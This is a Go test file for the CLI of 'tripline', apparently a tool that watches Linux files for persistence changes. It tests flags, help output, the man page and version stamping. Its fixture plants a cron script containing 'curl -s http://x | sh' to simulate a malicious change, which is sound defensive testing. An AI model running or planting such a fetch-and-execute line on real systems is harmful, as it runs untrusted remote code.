package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime/debug"
	"slices"
	"strings"
	"testing"

	"github.com/tripline/tripline/internal/testenv"
	"github.com/urfave/cli/v2"

	"github.com/tripline/tripline/internal/buildinfo"
	"github.com/tripline/tripline/internal/clidoc"
)

// tlRun runs tripline in this process, as main does.
func tlRun(t *testing.T, args ...string) result {
	t.Helper()
	var so, se bytes.Buffer
	code := run(context.Background(), append([]string{"tripline"}, args...), &so, &se)
	return result{so.String(), se.String(), code}
}

// cliFixture is a tree scanned once, then changed and scanned again: a baseline with a change
// in the history, and the content versions for --diff.
func cliFixture(t *testing.T) (*fixture, []string) {
	t.Helper()
	fx := newFixture(t)
	g := []string{"--db", fx.db, "--root", fx.root}
	if r := tlRun(t, append(g, "scan")...); r.code != 0 {
		t.Fatalf("first scan: %d %s", r.code, r.stderr)
	}
	fx.write(t, "etc/cron.daily/backup", "#!/bin/sh\ncurl -s http://x | sh\n", 0o755)
	fx.write(t, "etc/cron.daily/logrotate", "#!/bin/sh\nlogrotate -f /etc/logrotate.conf\n", 0o755)
	if r := tlRun(t, append(g, "scan")...); r.code != exitChanged {
		t.Fatalf("second scan: %d %s", r.code, r.stderr)
	}
	return fx, g
}

// TestFlagsAnywhere runs every command with its flags before its arguments and after them (and
// the global flags after the command): both orders must do the same.
func TestFlagsAnywhere(t *testing.T) {
	fx, g := cliFixture(t)
	dir := t.TempDir()
	key := filepath.Join(dir, "k")
	exp := filepath.Join(dir, "a.json")
	pol := filepath.Join(dir, "p.yaml")
	os.WriteFile(pol, []byte("version: 1\nextends: default\n"), 0o644)
	if r := tlRun(t, append(g, "baseline", "keygen", "--out", key)...); r.code != 0 {
		t.Fatal(r.stderr)
	}
	if r := tlRun(t, append(g, "baseline", "export", "-o", exp, "--sign", key+".key")...); r.code != 0 {
		t.Fatal(r.stderr)
	}
	const path = "/etc/cron.daily/backup"
	cases := []struct {
		name          string
		before, after []string // without the global flags of g
		code          int
		same          bool     // the two print the same stdout
		want          []string // in stdout
	}{
		{"history PATH --format json", []string{"history", "--format", "json", path}, []string{"history", path, "--format", "json"}, 0, true, []string{`"path": "/etc/cron.daily/backup"`}},
		{"history PATH --diff", []string{"history", "--diff", path}, []string{"history", path, "--diff"}, 0, true, []string{"+curl -s http://x | sh"}},
		{"history PATH --format=json --diff", []string{"history", "--format=json", "--diff", path}, []string{"history", path, "--diff", "--format=json"}, 0, true, []string{`"diffs"`}},
		{"baseline show DIR/ --format json", []string{"baseline", "show", "--format", "json", "/etc/init.d/"}, []string{"baseline", "show", "/etc/init.d/", "--format", "json"}, 0, true, []string{`"path":"/etc/init.d/alpha"`}},
		{"restore PATH --dry-run", []string{"restore", "--dry-run", path}, []string{"restore", path, "--dry-run"}, 0, true, []string{"would restore"}},
		{"baseline accept PATH --dry-run", []string{"baseline", "accept", "--dry-run", path}, []string{"baseline", "accept", path, "--dry-run"}, 0, true, []string{"would accept /etc/cron.daily/backup", "Nothing was changed (--dry-run)."}},
		{"baseline update --dry-run", []string{"--log-level", "warn", "baseline", "update", "--dry-run"}, []string{"baseline", "update", "--dry-run", "--log-level", "warn"}, 0, true, []string{"would accept /etc/cron.daily/backup"}},
		{"restore PATH --mode-only --dry-run", []string{"restore", "--mode-only", "--dry-run", path}, []string{"restore", path, "--dry-run", "--mode-only"}, 0, true, []string{"mode 0755"}},
		{"show PATH@1 global after", []string{"show", path + "@1"}, []string{"show", path + "@1", "--log-level", "warn"}, 0, true, []string{"tar czf"}},
		{"policy check FILE --log-level", []string{"--log-level", "error", "policy", "check", pol}, []string{"policy", "check", pol, "--log-level", "error"}, 0, true, []string{": ok:"}},
		{"policy locations --existing --format json", []string{"policy", "locations", "--format", "json", "--existing"}, []string{"policy", "locations", "--existing", "--format", "json"}, 0, true, []string{`"exists":true`}},
		{"policy show --format json --policy", []string{"--policy", pol, "policy", "show", "--format", "json"}, []string{"policy", "show", "--format", "json", "--policy", pol}, 0, true, []string{`"locations"`}},
		{"baseline verify FILE --pubkey", []string{"baseline", "verify", "--pubkey", key + ".pub.pem", exp}, []string{"baseline", "verify", exp, "--pubkey", key + ".pub.pem"}, 0, true, []string{"good signature"}},
		{"baseline verify FILE --sig --pubkey", []string{"baseline", "verify", "--sig", exp + ".sig", "--pubkey=" + key + ".pub.pem", exp}, []string{"baseline", "verify", exp, "--pubkey=" + key + ".pub.pem", "--sig", exp + ".sig"}, 0, true, []string{"good signature"}},
		{"baseline diff A B --format json", []string{"baseline", "diff", "--format", "json", exp, exp}, []string{"baseline", "diff", exp, exp, "--format", "json"}, 0, true, []string{`"only_in_a"`}},
		{"baseline export -o --format csv", []string{"baseline", "export", "--format", "csv", "-o", filepath.Join(dir, "b.csv")}, []string{"baseline", "export", "-o", filepath.Join(dir, "b.csv"), "--format", "csv", "--db", fx.db}, 0, true, nil},
		{"baseline keygen --out", []string{"baseline", "keygen", "--out", filepath.Join(dir, "k2")}, []string{"baseline", "keygen", "--log-level", "warn", "--out", filepath.Join(dir, "k3")}, 0, false, []string{"public key"}},
		{"version --log-level", []string{"--log-level", "warn", "version"}, []string{"version", "--log-level", "warn"}, 0, true, []string{"tripline "}},
		{"completion bash --log-level", []string{"completion", "bash"}, []string{"completion", "bash", "--log-level", "warn"}, 0, true, []string{"complete -F _tripline tripline"}},
		{"man --log-level", []string{"man"}, []string{"man", "--log-level", "warn"}, 0, true, []string{".TH TRIPLINE 8"}},
		{"help history", []string{"history", "--help"}, []string{"help", "history"}, 0, true, []string{"tripline history"}},
		{"scan --format json --fail-on high", []string{"scan", "--format", "json", "--fail-on", "high"}, []string{"scan", "--fail-on", "high", "--format", "json", "--root", fx.root}, exitChanged, false, []string{`"type":"summary"`}},
		{"baseline accept PATH global after", []string{"baseline", "accept", path}, []string{"baseline", "accept", "/etc/cron.daily/logrotate", "--db", fx.db}, 0, false, []string{"accepted /etc/cron.daily/"}},
		{"baseline update --log-level", []string{"baseline", "update"}, []string{"baseline", "update", "--log-level", "warn"}, 0, false, []string{"paths accepted"}},
		{"baseline create --format json", []string{"baseline", "create", "--format", "json"}, []string{"baseline", "create", "--no-content", "--format", "json", "--workers", "2"}, 0, false, []string{`"baseline_recorded":true`}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := tlRun(t, append(g, c.before...)...)
			b := tlRun(t, append(g, c.after...)...)
			for i, r := range []result{a, b} {
				if r.code != c.code {
					t.Errorf("order %d: exit %d, want %d; stderr %s", i, r.code, c.code, r.stderr)
				}
				for _, w := range c.want {
					if !strings.Contains(r.stdout, w) {
						t.Errorf("order %d: stdout lacks %q:\n%s", i, w, r.stdout)
					}
				}
			}
			if c.same && a.stdout != b.stdout {
				t.Errorf("the two orders differ:\nbefore: %s\nafter:  %s", a.stdout, b.stdout)
			}
		})
	}
}

// TestWatchFlagsAfter checks the daemon's flags after the command without starting it: a bad
// value given after "watch" is refused by watch itself (the flag reached it).
func TestWatchFlagsAfter(t *testing.T) {
	dir := t.TempDir()
	r := tlRun(t, "--db", filepath.Join(dir, "db"), "watch", "--backend", "bogus", "--root", dir)
	if r.code != exitUsage || !strings.Contains(r.stderr, "bogus") {
		t.Errorf("exit %d, stderr %q", r.code, r.stderr)
	}
}

// TestDoubleDash: "--" ends the flags, so a name starting with a dash is an argument.
func TestDoubleDash(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	os.WriteFile("--x", []byte("version: 1\nextends: default\n"), 0o644)
	if r := tlRun(t, "policy", "check", "--", "--x"); r.code != 0 || !strings.HasPrefix(r.stdout, "--x: ok") {
		t.Errorf("policy check -- --x: exit %d %q %q", r.code, r.stdout, r.stderr)
	}
	if r := tlRun(t, "policy", "check", "--x"); r.code != exitUsage || !strings.Contains(r.stderr, "flag provided but not defined: -x") {
		t.Errorf("policy check --x: exit %d %q", r.code, r.stderr)
	}
	// After "--", even a word that looks like a flag of the command is a PATH.
	r := tlRun(t, "--db", filepath.Join(dir, "db"), "baseline", "accept", "--", "--format")
	if r.code != exitUsage || !strings.Contains(r.stderr, "--format: give the absolute path") {
		t.Errorf("baseline accept -- --format: exit %d %q", r.code, r.stderr)
	}
}

// leafPaths are the commands that run an action, from the app's own definitions.
func leafPaths(t *testing.T) []string {
	t.Helper()
	app := newApp(&bytes.Buffer{}, &bytes.Buffer{}, &env{})
	var paths []string
	clidoc.Walk(app.Commands, "", func(path string, c *cli.Command) {
		if c.Action != nil {
			paths = append(paths, path)
		}
	})
	return paths
}

// TestStrictArgs gives every command one argument too many, and one too few: a usage error (16)
// that names the command and points at its help, before the command does anything.
func TestStrictArgs(t *testing.T) {
	db := filepath.Join(t.TempDir(), "db")
	for _, path := range leafPaths(t) {
		if path == "help" {
			continue
		}
		ar, ok := arities[path]
		if !ok {
			t.Errorf("%s: no argument count declared", path)
			continue
		}
		cmd := strings.Fields(path)
		if ar.Max >= 0 {
			args := append(append([]string{"--db", db}, cmd...), slices.Repeat([]string{"/x"}, ar.Max+1)...)
			r := tlRun(t, args...)
			if r.code != exitUsage || !strings.Contains(r.stderr, "tripline: "+path+" ") || !strings.Contains(r.stderr, "(see 'tripline "+path+" --help')") {
				t.Errorf("%v: exit %d, stderr %q", args[2:], r.code, r.stderr)
			}
		}
		if ar.Min > 0 {
			args := append(append([]string{"--db", db}, cmd...), slices.Repeat([]string{"/x"}, ar.Min-1)...)
			r := tlRun(t, args...)
			if r.code != exitUsage || !strings.Contains(r.stderr, "tripline: "+path+" needs") {
				t.Errorf("%v: exit %d, stderr %q", args[2:], r.code, r.stderr)
			}
		}
	}
	if _, err := os.Stat(db); err == nil {
		t.Error("a refused command created the database")
	}
	r := tlRun(t, "version", "extra")
	if r.code != exitUsage || r.stdout != "" || !strings.Contains(r.stderr, `version takes no arguments (got "extra")`) {
		t.Errorf("version extra: exit %d %q %q", r.code, r.stdout, r.stderr)
	}
}

// TestHelp: 'help CMD' is 'CMD --help'; errors point at the help of the command they are about.
func TestHelp(t *testing.T) {
	if a, b := tlRun(t, "help"), tlRun(t, "--help"); a.code != 0 || a.stdout != b.stdout || !strings.Contains(a.stdout, "COMMANDS:") {
		t.Errorf("help and --help differ, or fail (exit %d):\n%s", a.code, a.stdout)
	}
	for _, path := range leafPaths(t) {
		args := strings.Fields(path)
		a, b := tlRun(t, append([]string{"help"}, args...)...), tlRun(t, append(args, "--help")...)
		if a.code != 0 || a.stdout != b.stdout || !strings.Contains(a.stdout, "tripline "+path) {
			t.Errorf("help %s (exit %d) and %s --help differ:\n%s\n%s", path, a.code, path, a.stdout, b.stdout)
		}
	}
	cases := []struct {
		args []string
		msg  string
	}{
		{[]string{"history", "--bogus"}, "flag provided but not defined: -bogus (see 'tripline history --help')"},
		{[]string{"history", "/etc/x", "--bogus"}, "flag provided but not defined: -bogus (see 'tripline history --help')"},
		{[]string{"baseline", "accept", "/etc/x", "--bogus"}, "flag provided but not defined: -bogus (see 'tripline baseline accept --help')"},
		{[]string{"--bogus", "scan"}, "(see 'tripline --help')"},
		{[]string{"scan", "--format"}, "--format needs a value (see 'tripline scan --help')"},
		{[]string{"frobnicate"}, `unknown command "frobnicate" (commands: scan, watch,`},
		{[]string{"baseline", "frobnicate"}, `baseline: unknown command "frobnicate" (commands: create, update, accept,`},
		{[]string{"help", "frobnicate"}, `unknown command "frobnicate"`},
		{[]string{"help", "history", "extra"}, `help: "extra" is not a command of "tripline history"`},
		{[]string{"completion", "tcsh"}, `completion: unknown shell "tcsh" (bash, zsh or fish) (see 'tripline completion --help')`},
		{[]string{"policy", "show", "--format", "xml"}, `(see 'tripline policy show --help')`},
	}
	for _, c := range cases {
		r := tlRun(t, c.args...)
		if r.code != exitUsage || !strings.Contains(r.stderr, c.msg) || strings.Count(r.stderr, "\n") != 1 {
			t.Errorf("%v: exit %d, stderr %q; want one line with %q", c.args, r.code, r.stderr, c.msg)
		}
	}
}

// TestEnvTwins: the scan's flags have environment variables, named in --help; the command line
// wins over them.
func TestEnvTwins(t *testing.T) {
	help := tlRun(t, "scan", "--help").stdout
	for _, v := range []string{"TRIPLINE_FORMAT", "TRIPLINE_FAIL_ON", "TRIPLINE_MAX_HASH_SIZE", "TRIPLINE_WORKERS", "TRIPLINE_NO_CONTENT"} {
		if !strings.Contains(help, "$"+v) {
			t.Errorf("scan --help does not name %s", v)
		}
	}
	if !strings.Contains(tlRun(t, "watch", "--help").stdout, "$TRIPLINE_MAX_HASH_SIZE") {
		t.Error("watch --help does not name TRIPLINE_MAX_HASH_SIZE")
	}
	fx := newFixture(t)
	g := []string{"--db", fx.db, "--root", fx.root}
	t.Setenv("TRIPLINE_FORMAT", "json")
	r := tlRun(t, append(g, "scan")...)
	if r.code != 0 || !strings.Contains(r.stdout, `"type":"summary"`) {
		t.Errorf("TRIPLINE_FORMAT=json scan: exit %d\n%s", r.code, r.stdout)
	}
	if r := tlRun(t, append(g, "scan", "--format", "text")...); strings.Contains(r.stdout, `"type"`) {
		t.Errorf("--format text did not win over TRIPLINE_FORMAT:\n%s", r.stdout)
	}
	t.Setenv("TRIPLINE_FORMAT", "xml")
	if r := tlRun(t, append(g, "scan")...); r.code != exitUsage || !strings.Contains(r.stderr, `"xml"`) {
		t.Errorf("TRIPLINE_FORMAT=xml: exit %d %q", r.code, r.stderr)
	}
}

func TestPolicyLocationsUsage(t *testing.T) {
	out := tlRun(t, "policy", "locations", "--help").stdout
	if strings.Contains(out, "--missing") || !strings.Contains(out, "[--existing]") {
		t.Errorf("policy locations usage:\n%s", out)
	}
}

// TestMan: the page names every command and every environment variable, and man renders it
// without a warning.
func TestMan(t *testing.T) {
	r := tlRun(t, "man")
	if r.code != 0 || !strings.HasPrefix(r.stdout, ".TH TRIPLINE 8 ") {
		t.Fatalf("exit %d, %.80q", r.code, r.stdout)
	}
	for _, path := range leafPaths(t) {
		if !strings.Contains(r.stdout, "\n.SS tripline "+path+"\n") {
			t.Errorf("the man page has no section for %q", path)
		}
	}
	for _, v := range []string{"TRIPLINE_DB", "TRIPLINE_POLICY", "TRIPLINE_ROOT", "TRIPLINE_LOG_LEVEL", "TRIPLINE_FORMAT", "TRIPLINE_BACKEND", "TRIPLINE_WORKERS"} {
		if !strings.Contains(r.stdout, "\n.B "+v+"\n") {
			t.Errorf("ENVIRONMENT does not list %s", v)
		}
	}
	for _, l := range strings.Split(r.stdout, "\n") {
		if strings.HasPrefix(l, "'") {
			t.Errorf("a text line starts with a quote (a roff request): %q", l)
		}
	}
	if _, err := exec.LookPath("man"); err != nil {
		testenv.SkipOrFail(t, "man is not installed (apt-get install man-db groff-base): the rendering is not checked")
	}
	cmd := exec.Command("man", "--warnings", "-l", "-")
	cmd.Env = append(os.Environ(), "MANWIDTH=80", "MAN_KEEP_FORMATTING=0")
	cmd.Stdin = strings.NewReader(r.stdout)
	var so, se bytes.Buffer
	cmd.Stdout, cmd.Stderr = &so, &se
	if err := cmd.Run(); err != nil || se.Len() > 0 {
		t.Fatalf("man -l: %v\n%s", err, se.String())
	}
	text := regexp.MustCompile(".\b").ReplaceAllString(so.String(), "")
	for _, w := range []string{"TRIPLINE(8)", "NAME", "watch Linux persistence", "baseline accept", "EXIT STATUS", "ENVIRONMENT"} {
		if !strings.Contains(text, w) {
			t.Errorf("the rendered page lacks %q", w)
		}
	}
}

// TestVersionStamped builds tripline as a release does, with -X main.version: the version
// command and the auditor export both carry it.
func TestVersionStamped(t *testing.T) {
	bin := filepath.Join(t.TempDir(), "tripline")
	if out, err := exec.Command("go", "build", "-ldflags", "-X main.version=9.8.7-test", "-o", bin, ".").CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	out, err := exec.Command(bin, "version").Output()
	if err != nil || !regexp.MustCompile(`^tripline 9\.8\.7-test \(database schema \d+, go1\.\d+`).Match(out) {
		t.Errorf("version: %v %q", err, out)
	}
	fx := newFixture(t)
	if out, err := exec.Command(bin, "--db", fx.db, "--root", fx.root, "scan").CombinedOutput(); err != nil {
		t.Fatalf("scan: %v\n%s", err, out)
	}
	out, err = exec.Command(bin, "--db", fx.db, "--root", fx.root, "baseline", "export").Output()
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Header map[string]any `json:"header"`
	}
	if err := json.Unmarshal(out, &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Header["tripline_version"] != "9.8.7-test" {
		t.Errorf("export header: %v", doc.Header)
	}
	// Unstamped (this test binary has no VCS stamp either way): devel, and the version command
	// says why.
	if r := tlRun(t, "version"); version == "" && buildinfo.Module(mustBuildInfo(t)) == "devel" && !strings.Contains(r.stdout, "tripline devel (no version stamp: ") {
		t.Errorf("unstamped version: %q", r.stdout)
	}
}

func mustBuildInfo(t *testing.T) *debug.BuildInfo {
	bi, ok := debug.ReadBuildInfo()
	if !ok {
		t.Fatal("no build information")
	}
	return bi
}
